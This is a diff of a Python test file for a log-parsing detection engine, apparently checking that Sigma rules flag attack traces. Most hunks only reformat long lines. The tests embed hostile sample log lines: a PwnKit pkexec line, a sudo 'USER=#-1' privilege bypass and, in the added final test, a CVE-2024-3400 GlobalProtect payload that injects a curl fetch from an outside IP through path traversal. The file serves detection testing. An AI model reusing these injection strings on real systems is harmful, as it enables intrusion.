@@ -53,7 +53,9 @@ def test_pwnkit_is_caught_from_the_auth_log_and_only_there() -> None:
     pwnkit = ("Nov 26 09:00:04 erp01 pkexec[777]: mallory: The value for environment variable "
               "XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] "
               "[CWD=/tmp] [COMMAND=GCONV_PATH=./pwnkit.so:.]")  # fmt: skip
-    normal = "Nov 26 09:00:05 erp01 pkexec[778]: alice: Executing command [USER=root] [TTY=/dev/pts/0]"
+    normal = (
+        "Nov 26 09:00:05 erp01 pkexec[778]: alice: Executing command [USER=root] [TTY=/dev/pts/0]"
+    )
     assert len(_titles(engine, pwnkit)) == 1
     assert _titles(engine, normal) == []
     # The same words in a web application's own log line are not an auth message.
@@ -144,7 +146,9 @@ def test_bgp_authentication_failures_of_huawei_routers_are_caught() -> None:
 
 
 def test_a_new_local_admin_on_the_fortigate_is_caught_from_its_event_log() -> None:
-    engine = _engine("rules/network/fortinet/fortigate/fortinet_fortigate_new_local_user_created.yml")
+    engine = _engine(
+        "rules/network/fortinet/fortigate/fortinet_fortigate_new_local_user_created.yml"
+    )
     log = ('<189>date=2026-11-26 time=09:05:00 devname="FGT-EDGE" devid="FGT60E0000000001" '
            'logid="0100044547" type="event" subtype="system" level="information" vd="root" '
            'eventtime=1795683900000000000 tz="+0000" logdesc="Object attribute configured" '
@@ -169,7 +173,10 @@ def test_logid_and_devid_in_an_sshd_message_do_not_make_it_a_fortigate_event() -
             "type=traffic dstport=21 action=accept eventtime=1000000000")  # fmt: skip
     assert _titles(engine, line) == ["Suspicious OpenSSH Daemon Error"]
     event = parse_bytes(line.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[0]
-    assert (event["event.dataset"], event["@timestamp"]) == ("syslog", "2026-11-26T09:05:01.000000Z")
+    assert (event["event.dataset"], event["@timestamp"]) == (
+        "syslog",
+        "2026-11-26T09:05:01.000000Z",
+    )
 
 
 def test_sudo_arguments_cannot_overwrite_the_target_user_cve_2019_14287() -> None:
@@ -186,7 +193,9 @@ def test_sudo_arguments_cannot_overwrite_the_target_user_cve_2019_14287() -> Non
     hidden = line.replace("PWD=/tmp ; USER=#-1 ; COMMAND=/usr/bin/bash -c id ; USER=root",
                           "PWD=/tmp/x ; USER=root ; USER=#-1 ; COMMAND=/bin/id")  # fmt: skip
     assert len(_titles(engine, hidden)) == 1
-    event = parse_bytes(hidden.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[0]
+    event = parse_bytes(hidden.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[
+        0
+    ]
     assert event["sudo.USER"] == ["root", "#-1"]
 
 
@@ -195,7 +204,9 @@ def test_web_server_crashes_are_caught_from_apache_and_nginx_error_logs() -> Non
                      "rules/web/product/nginx/web_nginx_core_dump.yml")  # fmt: skip
     apache = ("[Thu Nov 26 09:06:00.123456 2026] [core:notice] [pid 1200:tid 1] AH00051: child "
               "pid 1300 exit signal Segmentation fault (11), possible coredump in /etc/apache2")  # fmt: skip
-    graceful = "[Thu Nov 26 09:06:01.000000 2026] [mpm_event:notice] [pid 1200:tid 1] AH00489: resuming"
+    graceful = (
+        "[Thu Nov 26 09:06:01.000000 2026] [mpm_event:notice] [pid 1200:tid 1] AH00489: resuming"
+    )
     nginx = "2026/11/26 09:06:02 [alert] 900#0: worker process 901 exited on signal 6 (core dumped)"
     assert _titles(engine, apache + "\n" + graceful, "error.log") == ["Apache Segmentation Fault"]
     assert _titles(engine, nginx, "error.log") == ["Nginx Core Dump"]
@@ -274,7 +285,9 @@ def test_firewall_rules_judge_the_fortigates_traffic_log() -> None:
     c2 = _titles(engine, _fortigate_traffic("deny", 443, destination="69.42.98.86"))
     assert c2 == ["Equation Group C2 Communication"]
     # A FortiGate's event log (a configuration change) is not traffic.
-    config = 'date=2026-11-26 time=09:10:01 devname="F" devid="F1" logid="01" type="event" dstport=21'
+    config = (
+        'date=2026-11-26 time=09:10:01 devname="F" devid="F1" logid="01" type="event" dstport=21'
+    )
     assert _titles(engine, config) == []
 
 
@@ -286,7 +299,8 @@ def test_a_duo_bypass_code_and_a_onelogin_user_assuming_another_are_caught() -> 
            "user": {"name": "erp-admin"}, "access_device": {"ip": "203.0.113.7"}}  # fmt: skip
     push = {**duo, "factor": "duo_push", "reason": "user_approved"}
     assert _titles(engine, json.dumps(duo)) == [
-        "Cisco Duo Successful MFA Authentication Via Bypass Code"]
+        "Cisco Duo Successful MFA Authentication Via Bypass Code"
+    ]
     assert _titles(engine, json.dumps(push)) == []
     assumed = {"id": 1, "account_id": 9, "event_type_id": 3, "created_at": "2026-11-26T09:12:00Z",
                "user_name": "alice", "actor_user_name": "mallory", "ipaddr": "203.0.113.8"}  # fmt: skip
@@ -376,3 +390,31 @@ def test_outcomes_and_parameters_of_m365_duo_workspace_and_pim_records() -> None
            "assignmentCreatedDateTime": "2019-01-01T00:00:00Z",
            "lastSignInDateTime": "2019-06-01T00:00:00Z"}  # fmt: skip
     assert _event(pim)["@timestamp"] == RECEIVED  # not the years-old assignment
+
+
+def test_cve_2024_3400_globalprotect_command_injection_is_caught_in_gpsvc_and_mp_log() -> None:
+    """SigmaHQ's rule on the appliance's own logs, named with --source
+    paloalto.globalprotect: the session cookie's path traversal in gpsvc.log, and the
+    injected command in device telemetry; a broken session and plain telemetry are not."""
+    engine = sigma_engine(
+        SIGMA,
+        "rules-emerging-threats/2024/Exploits/CVE-2024-3400/"
+        "paloalto_globalprotect_exploit_cve_2024_3400_command_injection.yml",
+    )
+    assert engine.problems == []
+    traversal = (b'{"level":"error","task":"1393-22","time":"2024-04-16T06:28:45.128393+00:00",'
+                 b'"message":"failed to unmarshal session(/../../../../opt/panlogs/tmp/device_'
+                 b'telemetry/minute/y`curl${IFS}http://172.233.228.93/x`) map , EOF"}')  # fmt: skip
+    injected = (b"2024-04-16 06:31:00.000 -0700 debug: /opt/panlogs/tmp/device_telemetry/"
+                b"minute/y`curl${IFS}http://172.233.228.93/x` upload")  # fmt: skip
+    broken = (b'{"level":"error","task":"1393-22","time":"2024-04-16T06:28:45Z",'
+              b'"message":"failed to unmarshal session(0f9c2a) map , EOF"}')  # fmt: skip
+    telemetry = (b"2024-04-16 06:32:00.000 -0700 debug: /opt/panlogs/tmp/device_telemetry/"
+                 b"minute/dt_20240416.tgz upload")  # fmt: skip
+    out = parse_bytes(b"\n".join([traversal, injected, broken, telemetry]), path="gp.log",
+                      received="2026-11-26T00:00:00Z", max_event_bytes=65536,
+                      source="paloalto.globalprotect")  # fmt: skip
+    assert out.errors == []
+    titles = [[h.rule.title for h in engine.match(e)] for e in out.events]
+    title = "Potential CVE-2024-3400 Exploitation - Palo Alto GlobalProtect OS Command Injection"
+    assert titles == [[title], [title], [], []]
